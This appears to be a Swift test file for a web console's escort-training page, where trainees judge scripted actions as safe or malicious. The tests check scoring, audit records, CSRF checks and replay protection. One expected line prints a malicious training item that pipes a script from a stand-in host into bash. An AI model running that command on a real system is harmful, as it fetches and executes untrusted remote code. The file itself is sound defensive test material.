import AuditLog
import Console
import EscortCore
import EscortTesting
import Foundation
import Hummingbird
import HummingbirdTesting
import Store
import StoreSQLite
import Testing
import Training

/// The web console's escort-training page, on the real registry, audit log and bundled scenarios
/// (the fixture is ``ConsoleFixture``).
@Suite(.serialized)
struct TrainingPageTests {
    typealias Login = (cookie: String, csrf: String)

    func app(_ f: ConsoleFixture) -> some ApplicationProtocol {
        Application(router: ConsoleRoutesForTesting.router(f.context))
    }

    static let scenario = try! ScenarioLibrary.bundled().scenario(id: "web-maintenance")

    func post(_ client: some TestClientProtocol, _ uri: String, _ who: Login, _ body: String, origin: String? = "http://localhost") async throws -> TestResponse {
        var headers: HTTPFields = [.cookie: who.cookie, .contentType: "application/x-www-form-urlencoded"]
        if let origin { headers[.origin] = origin }
        return try await client.execute(uri: uri, method: .post, headers: headers, body: ByteBuffer(string: body))
    }

    func get(_ client: some TestClientProtocol, _ uri: String, _ who: Login) async throws -> TestResponse {
        try await client.execute(uri: uri, method: .get, headers: [.cookie: who.cookie])
    }

    /// Starts the scenario; returns the run's page.
    func start(_ client: some TestClientProtocol, _ who: Login) async throws -> String {
        let r = try await post(client, "/training/start", who, "csrf=\(who.csrf)&scenario=\(Self.scenario.id)")
        #expect(r.status == .seeOther)
        return try #require(r.headers[.location])
    }

    /// Serves step `step` (checking the page shows it) and answers it.
    func answer(_ client: some TestClientProtocol, _ who: Login, _ run: String, step: Int, _ answer: TrainingAnswer) async throws -> TestResponse {
        let page = String(buffer: try await get(client, run, who).body)
        #expect(page.contains("data-step=\"\(step)\""), "step \(step) not shown: \(page.prefix(400))")
        // The analyser's explanation is hidden in the first round of every decision and shown in the second.
        #expect(page.contains("id=\"explanation\"") == (step % 2 == 1))
        return try await post(client, run + "/answer", who, "csrf=\(who.csrf)&step=\(step)&answer=\(answer.rawValue)")
    }

    /// Answers every decision right in both rounds, except those in `blindWrong` in the first round;
    /// returns the response to the last answer.
    func runThrough(_ client: some TestClientProtocol, _ who: Login, blindWrong: Set<Int> = []) async throws -> TestResponse {
        let run = try await start(client, who)
        var last: TestResponse?
        for (i, d) in Self.scenario.decisions.enumerated() {
            let wrong: TrainingAnswer = d.expected == .refuse ? .approve : .refuse
            let blind = try await answer(client, who, run, step: 2 * i, blindWrong.contains(i) ? wrong : d.expected)
            #expect(blind.status == .seeOther)
            last = try await answer(client, who, run, step: 2 * i + 1, d.expected)
        }
        return try #require(last)
    }

    func trainingRecords(_ f: ConsoleFixture) async throws -> [AuditRecord] {
        _ = try await f.audit.checkpoint()
        return try await f.store.auditRecords(from: 1, limit: 10_000).map { try AuditRecord(body: $0.body) }
            .filter { ($0.fields["action"]?.stringValue ?? "").hasPrefix("training.result") }
    }

    @Test func aScriptedRunIsScoredStoredAndAudited() async throws {
        let f = try await ConsoleFixture()
        let before = try await f.store.person(named: "bob")?.escortTrainingExpires
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let index = String(buffer: try await get(client, "/training", bob).body)
            #expect(index.contains("<a href=\"/training\">Training</a>"))
            #expect(index.contains(HTMLText.escape(Self.scenario.title)) && index.contains("22 (6 malicious)"))
            #expect(index.contains("catch ≥ 60% on your own and ≥ 100% with the analyser; false alarms ≤ 25%"))
            #expect(index.contains("No results yet."))
            // bob's date was set by an admin (the fixture), not earned: the page says so.
            #expect(index.contains("set by an admin: no training result of yours earns it"))

            // Decision 5 (index 4, the curl | bash) approved on your own, refused with the analyser.
            let last = try await runThrough(client, bob, blindWrong: [4])
            let page = String(buffer: last.body)
            #expect(last.status == .ok)
            #expect(page.contains("Result: <span class=\"ok\">PASSED</span>"))
            #expect(page.contains("Recorded (audit record #"))
            #expect(!page.contains("NOT RECORDED"))
            #expect(page.contains("<tr><td>On your own</td><td>5 of 6</td><td>1</td><td>0 of 16</td>"))
            #expect(page.contains("<tr><td>With the analyser</td><td>6 of 6</td><td>0</td><td>0 of 16</td>"))
            #expect(page.components(separatedBy: "<li class=\"miss\">").count == 2, "one miss explained")
            #expect(page.contains("#5 curl -s http://203.0.113.9/install.sh | bash"))
            #expect(page.contains("without the analyser (you got it right once you saw the explanation)"))

            let results = try await f.store.trainingResults(person: "bob")
            #expect(results.count == 1 && results[0].passed && results[0].scenario == Self.scenario.id)
            let stored = try TrainingResult.decode(json: try #require(results.first).body)
            #expect(stored.blind.catches == 5 && stored.explained.catches == 6 && stored.explained.falseAlarms == 0)
            #expect(stored.feedback.map(\.number) == [5])

            let records = try await trainingRecords(f)
            #expect(records.count == 1)
            #expect(records.first?.fields["action"] == "training.result" && records.first?.actor == "bob")
            #expect(records.first?.fields["result"] == .string(stored.id) && records.first?.fields["passed"] == .bool(true))
            #expect(records.first?.fields["blind_catches"] == .integer(5))

            // The result is listed and can be read again.
            let after = String(buffer: try await get(client, "/training", bob).body)
            #expect(after.contains("/training/results/\(stored.id)") && after.contains("passed"))
            let again = String(buffer: try await get(client, "/training/results/\(stored.id)", bob).body)
            #expect(again.contains("5 of 6"))
            // Not someone else's.
            let carl = try #require(try await signIn(client, "carl"))
            #expect(try await get(client, "/training/results/\(stored.id)", carl).status == .notFound)
        }
        // One scenario of five does not earn the set: the date stays.
        #expect(try await f.store.person(named: "bob")?.escortTrainingExpires == before)
    }

    @Test func postsWithoutTheCSRFTokenOrFromAnotherOriginAreRefused() async throws {
        let f = try await ConsoleFixture()
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            #expect(try await post(client, "/training/start", bob, "scenario=\(Self.scenario.id)").status == .forbidden)
            #expect(try await post(client, "/training/start", bob, "csrf=\(String(repeating: "0", count: 64))&scenario=\(Self.scenario.id)").status == .forbidden)
            #expect(try await post(client, "/training/start", bob, "csrf=\(bob.csrf)&scenario=\(Self.scenario.id)", origin: "https://evil.example").status == .forbidden)
            let training = String(buffer: try await get(client, "/training", bob).body)
            #expect(!training.contains("id=\"in-progress\""), "no run may have started")

            let run = try await start(client, bob)
            _ = try await get(client, run, bob)
            #expect(try await post(client, run + "/answer", bob, "step=0&answer=refuse").status == .forbidden)
            #expect(try await post(client, run + "/answer", bob, "csrf=\(bob.csrf)&step=0&answer=refuse", origin: "https://evil.example").status == .forbidden)
            #expect(String(buffer: try await get(client, run, bob).body).contains("data-step=\"0\""), "the run must still be at its first step")
        }
    }

    @Test func aReplayedOrStaleStepIsRefused() async throws {
        let f = try await ConsoleFixture()
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let run = try await start(client, bob)
            #expect(try await answer(client, bob, run, step: 0, .approve).status == .seeOther)
            // The same form again (a replay, or the back button).
            let replay = try await post(client, run + "/answer", bob, "csrf=\(bob.csrf)&step=0&answer=refuse")
            #expect(replay.status == .conflict)
            #expect(String(buffer: replay.body).contains("already answered"))
            // A step from the future.
            #expect(try await post(client, run + "/answer", bob, "csrf=\(bob.csrf)&step=5&answer=refuse").status == .conflict)
            // The current step, but its page was never served: no time can be measured.
            let unserved = try await post(client, run + "/answer", bob, "csrf=\(bob.csrf)&step=1&answer=approve")
            #expect(unserved.status == .conflict)
            #expect(String(buffer: unserved.body).contains("Open the decision"))
            #expect(try await answer(client, bob, run, step: 1, .approve).status == .seeOther)
            #expect(String(buffer: try await get(client, run, bob).body).contains("data-step=\"2\""))
            // A run id that does not exist.
            #expect(try await post(client, "/training/runs/nope/answer", bob, "csrf=\(bob.csrf)&step=0&answer=approve").status == .notFound)
        }
    }

    @Test func onePersonCannotAnswerAnothersRun() async throws {
        let f = try await ConsoleFixture()
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let carl = try #require(try await signIn(client, "carl"))
            let run = try await start(client, bob)
            _ = try await get(client, run, bob)
            #expect(try await get(client, run, carl).status == .forbidden)
            let r = try await post(client, run + "/answer", carl, "csrf=\(carl.csrf)&step=0&answer=approve")
            #expect(r.status == .forbidden)
            #expect(String(buffer: r.body).contains("someone else"))
            // Bob's run is untouched.
            #expect(try await answer(client, bob, run, step: 0, .refuse).status == .seeOther)
            // An admin may train too.
            let ada = try #require(try await signIn(client, "ada"))
            _ = try await start(client, ada)
        }
    }

    @Test(arguments: ["training_result", "audit_record"])
    func aFailedWriteIsReportedAsNotRecorded(_ table: String) async throws {
        let f = try await ConsoleFixture()
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            try f.store.executeForTesting(
                "CREATE TRIGGER fail_\(table) BEFORE INSERT ON \(table) BEGIN SELECT RAISE(ABORT, 'disk full (test)'); END")
            let last = try await runThrough(client, bob)
            let page = String(buffer: last.body)
            #expect(last.status == .internalServerError)
            #expect(page.contains("NOT RECORDED") && page.contains("earns no escort-training credit") && page.contains("disk full (test)"))
            #expect(!page.contains("Recorded (audit record"))
            #expect(!page.contains("now valid until"))
            try f.store.executeForTesting("DROP TRIGGER fail_\(table)")
        }
        #expect(try await f.store.trainingResults(person: "bob").isEmpty)
        if table == "training_result" {
            // The audit record came first; a second one says the result was not stored.
            let records = try await trainingRecords(f)
            #expect(records.compactMap { $0.fields["action"]?.stringValue } == ["training.result", "training.result.not_stored"])
        }
    }

    @Test func aRunFasterThanAPersonEarnsNothing() async throws {
        let f = try await ConsoleFixture()
        f.context.trainingPlausibility = .person
        let before = try await f.store.person(named: "bob")?.escortTrainingExpires
        try await app(f).test(.router) { client in
            let bob = try #require(try await signIn(client, "bob"))
            let last = try await runThrough(client, bob)
            let page = String(buffer: last.body)
            #expect(last.status == .unprocessableContent)
            #expect(page.contains("NOT RECORDED") && page.contains("faster than a person can read and decide"))
        }
        #expect(try await f.store.trainingResults(person: "bob").isEmpty)
        #expect(try await f.store.person(named: "bob")?.escortTrainingExpires == before)
        _ = try await f.audit.checkpoint()
        let refused = try await f.store.auditRecords(from: 1, limit: 10_000).map { try AuditRecord(body: $0.body) }
            .filter { $0.fields["action"] == "training.refused" }
        #expect(refused.count == 1 && refused.first?.actor == "bob" && refused.first?.fields["supervisor"] == .null)
    }
}
